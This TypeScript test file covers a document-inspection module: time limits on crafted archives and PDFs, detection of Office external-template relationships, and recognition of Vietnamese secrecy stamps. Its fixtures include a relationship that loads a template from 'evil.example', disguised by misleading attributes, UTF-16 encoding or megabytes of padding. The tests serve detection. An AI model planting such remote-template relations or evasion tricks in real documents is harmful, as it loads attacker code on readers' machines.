import { officeText } from '../../files/archive/office-text';
import { readArchive } from '../../files/archive/read-archive';
import { activeRelation } from '../../files/archive/relations';
import { inspectFile } from '../../files/inspect-file';
import { markInName } from '../../files/secrecy';
import { markInText } from '../../files/secrecy-stamp';
import { docxWith } from '../setup/office-file';
import { processMs } from '../setup/processor-time';
import { zipOf } from '../setup/zip';

const MB = 1_048_576;
/** Seconds of computing: a busy machine takes longer, and the files are not to blame. */
const secondsOf = async (work: () => unknown): Promise<number> => {
  const start = processMs();
  await work();
  return (processMs() - start) / 1_000;
};

describe('files made to hold the program up', () => {
  it('cost less than a second: a document of opened and never closed texts', async () => {
    const content = zipOf({ 'word/document.xml': '<w:t '.repeat(60_000) });
    expect(await secondsOf(async () => officeText((await readArchive(content))!))).toBeLessThan(1);
  });

  it('cost less than a second: relations opened and never closed', async () => {
    const xml = Buffer.from('<Relationship '.repeat(40_000));
    expect(await secondsOf(() => expect(() => activeRelation(xml)).toThrow())).toBeLessThan(1);
  });

  it('cost less than a second: a PDF of twenty thousand streams without an object between them', async () => {
    const content = Buffer.from(`%PDF-1.7\n1 0 obj ${'>>stream endstream '.repeat(20_000)}`);
    expect(await secondsOf(() => inspectFile('a.pdf', content))).toBeLessThan(1);
  });

  it('cost little time: four hundred parts', async () => {
    const parts = Array.from({ length: 400 }, (_, index) => ({
      name: `word/part${index}.xml`,
      content: `<a>${'Báo cáo kết quả '.repeat(10_000)}${Math.random()}</a>`,
    }));
    const content = docxWith([...parts, { name: 'word/media/a.bin', content: Buffer.alloc(MB, 1), method: 0 }]);
    expect(await secondsOf(async () => expect((await inspectFile('a.docx', content)).ok).toBe(true))).toBeLessThan(6);
  });
});

describe('a relation that would load a program', () => {
  const relation = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`;
  const far = 'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"';

  it.each([
    ['behind a sign that closes nothing', `Id="a>b" ${far}`],
    ['behind another attribute that names the same words', `Id="TargetMode='Internal'" ${far}`],
  ])('is seen %s', (_, attributes) => {
    expect(activeRelation(Buffer.from(relation(attributes)))).toBe('template');
  });

  it('is detected in UTF-16, and behind a megabyte of blanks', async () => {
    const xml = relation(far);
    for (const content of [
      Buffer.from(`\ufeff${xml}`, 'utf16le'),
      Buffer.from(xml.replace('<Rel', `${' '.repeat(2 * MB)}<Rel`)),
    ]) {
      const file = docxWith([{ name: 'word/_rels/settings.xml.rels', content }]);
      expect(await inspectFile('a.docx', file)).toMatchObject({ ok: false });
    }
  });
});

describe('a mark of secrecy', () => {
  it.each([
    'BÁO CÁO MẬT ĐỘ DÂN SỐ.xlsx',
    'MẬT KHẨU_HƯỚNG DẪN.pdf',
    'QUAN HỆ MẬT THIẾT.docx',
    'SẢN LƯỢNG MẬT ONG 2026.xlsx',
    'bao cao gui toi Mat tran To quoc.pdf',
    'gui-toi-mat-tran.docx',
  ])('is not seen in the name %s', (name) => {
    expect(markInName(name)).toBeNull();
  });

  it('is a stamp, not the heads of a table that counts documents by degree', () => {
    expect(markInText('Loại văn bản\nTuyệt mật\nTối mật\nMật\nThường')).toBeNull();
    expect(markInText('MẬT\nBáo cáo\nMẬT')).toBe('Mật');
  });
});
